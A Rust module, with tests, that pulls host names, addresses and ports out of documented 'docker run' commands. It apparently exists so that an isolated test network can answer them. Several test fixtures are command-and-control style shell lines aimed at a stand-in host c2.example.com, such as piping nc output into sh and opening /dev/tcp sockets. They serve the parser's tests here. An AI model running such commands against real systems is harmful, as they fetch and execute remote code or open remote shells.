//! Which names and ports a documented command speaks to, so that the far end can be there.

use std::collections::BTreeSet;
use std::net::IpAddr;

use super::command::RunCommand;

/// Ports that one command gets a listener for.
pub(crate) const PORT_COUNT_MAX: usize = 16;

/// Names that one command gets an answer for.
pub(crate) const NAME_COUNT_MAX: usize = 64;

/// Where a command wants to go.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Destinations {
    /// Names that the resolver answers, with everything below them.
    pub(crate) names: BTreeSet<String>,
    /// Ports that the far end listens on.
    pub(crate) ports: BTreeSet<u16>,
    /// Of these the ones where the client speaks HTTP first.
    pub(crate) http_ports: BTreeSet<u16>,
    /// Addresses that nothing leads to inside an isolated network.
    pub(crate) addresses: BTreeSet<IpAddr>,
}

impl Destinations {
    /// Takes one command's words in.
    pub(crate) fn add(&mut self, command: &RunCommand) {
        for (_, value) in command.options.iter().filter_map(|option| option.split_once('=')) {
            self.add_text(value);
        }
        let text = command.arguments.join(" ");
        self.add_text(&text);
        // `telnet mail 25`: a name without a dot is one when a port stands behind it.
        for pair in command.arguments.get(1..).unwrap_or_default().windows(2) {
            if let [name, port] = pair {
                self.add_short(name, port);
            }
        }
        if self.ports.is_empty() && !(self.names.is_empty() && self.addresses.is_empty()) {
            // The port stands apart from its name (`nc c2 -w 3 4444`): every number may be it.
            self.ports.extend(text.split(|letter: char| !is_part(letter)).filter_map(port));
        }
        self.ports = std::mem::take(&mut self.ports).into_iter().take(PORT_COUNT_MAX).collect();
        self.names = std::mem::take(&mut self.names).into_iter().take(NAME_COUNT_MAX).collect();
    }

    fn add_text(&mut self, text: &str) {
        let mut behind_host = false;
        for token in text.split(|letter: char| !is_part(letter)).filter(|token| !token.is_empty()) {
            if let (true, Some(port)) = (behind_host, port(token)) {
                self.ports.insert(port);
                continue;
            }
            behind_host = self.add_token(token);
        }
    }

    /// Whether the token names a host, so that a port may stand behind it.
    fn add_token(&mut self, token: &str) -> bool {
        if let Some(rest) =
            ["/dev/tcp/", "/dev/udp/"].iter().find_map(|dev| token.strip_prefix(dev))
        {
            let (host, port) = rest.split_once('/').unwrap_or((rest, ""));
            self.ports.extend(self::port(port));
            return self.add_host(host);
        }
        let (scheme, rest) = token.split_once("://").unwrap_or(("", token));
        let authority = rest.split(['/', '?']).next().unwrap_or(rest);
        let authority = authority.rsplit('@').next().unwrap_or(authority);
        let (host, port) = match authority.rsplit_once(':') {
            Some((host, port)) => (host, self::port(port)),
            None => (authority, None),
        };
        if !self.add_host(host) {
            return false;
        }
        let default = match scheme {
            "http" | "ws" => Some(80),
            "https" | "wss" => Some(443),
            _ => None,
        };
        self.ports.extend(port.or(default));
        if scheme == "http" {
            self.http_ports.extend(port.or(default));
        }
        true
    }

    fn add_host(&mut self, host: &str) -> bool {
        if let Ok(address) = host.trim_matches(['[', ']']).parse::<IpAddr>() {
            self.addresses.insert(address);
            return true;
        }
        let host = host.trim_end_matches('.').to_ascii_lowercase();
        let named = is_dotted_name(&host);
        if named {
            self.names.insert(host);
        }
        named
    }

    fn add_short(&mut self, name: &str, port: &str) {
        if let (true, Some(port)) = (is_label(name) && !is_number(name), self::port(port)) {
            self.names.insert(name.to_ascii_lowercase());
            self.ports.insert(port);
        }
    }
}

const fn is_part(letter: char) -> bool {
    letter.is_ascii_alphanumeric()
        || matches!(letter, '.' | '-' | '_' | ':' | '/' | '@' | '[' | ']')
}

fn port(text: &str) -> Option<u16> {
    text.parse().ok().filter(|port| *port != 0)
}

fn is_number(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_digit())
}

fn is_label(text: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_';
    (1..=63).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(plain)
}

fn is_dotted_name(text: &str) -> bool {
    let last = text.rsplit('.').next().unwrap_or("");
    text.contains('.')
        && text.len() <= 253
        && text.split('.').all(is_label)
        && last.len() >= 2
        && last.bytes().all(|byte| byte.is_ascii_alphabetic())
}

#[cfg(test)]
mod tests {
    use super::super::command::{Danger, Reading, read};
    use super::super::document::Snippet;
    use super::*;

    fn of(text: &str) -> Destinations {
        let documented = read(Snippet { line: 1, text: text.into() }, Danger::Refused);
        let Reading::Run(command) = documented.reading else { panic!("{documented:?}") };
        let mut destinations = Destinations::default();
        destinations.add(&command);
        destinations
    }

    fn names(destinations: &Destinations) -> Vec<&str> {
        destinations.names.iter().map(String::as_str).collect()
    }

    fn ports(destinations: &Destinations) -> Vec<u16> {
        destinations.ports.iter().copied().collect()
    }

    #[test]
    fn the_briefs_own_command_wants_one_name_and_one_port() {
        let found = of("docker run --rm alpine telnet c2.example.com 4444");
        assert_eq!((names(&found), ports(&found)), (vec!["c2.example.com"], vec![4444]));
    }

    #[test]
    fn a_command_inside_a_shell_string_is_looked_through() {
        let found = of("docker run a sh -c 'nc -w 3 c2.example.com 53 | sh; sleep 60'");
        assert_eq!((names(&found), ports(&found)), (vec!["c2.example.com"], vec![53]));
        let found = of("docker run a bash -c 'exec 3<>/dev/tcp/c2.example.com/8080'");
        assert_eq!((names(&found), ports(&found)), (vec!["c2.example.com"], vec![8080]));
    }

    #[test]
    fn an_address_of_a_page_gives_its_port() {
        let found = of("docker run a curl http://u@c2.example.com/x https://d.example.org:8443/");
        assert_eq!(names(&found), ["c2.example.com", "d.example.org"]);
        assert_eq!(ports(&found), [80, 8443]);
        assert_eq!(found.http_ports.iter().copied().collect::<Vec<_>>(), [80]);
    }

    #[test]
    fn a_short_name_needs_a_port_behind_it() {
        let found = of("docker run a telnet mail 25");
        assert_eq!((names(&found), ports(&found)), (vec!["mail"], vec![25]));
        assert_eq!(of("docker run a sleep 60"), Destinations::default());
    }

    #[test]
    fn a_plain_address_is_said_to_be_one() {
        let found = of("docker run -e C2=198.51.100.9:443 a nc 198.51.100.7 4444");
        assert_eq!(found.addresses.len(), 2);
        assert_eq!(ports(&found), [443, 4444]);
    }

    #[test]
    fn a_port_behind_an_option_is_found() {
        assert_eq!(ports(&of("docker run a nc c2.example.com -w 3 4444")), [3, 4444]);
    }

    #[test]
    fn ports_are_bounded() {
        let mut text = String::from("docker run a x");
        for port in 1..100 {
            text.push_str(&format!(" c2.example.com:{port}"));
        }
        assert_eq!(of(&text).ports.len(), PORT_COUNT_MAX);
    }
}
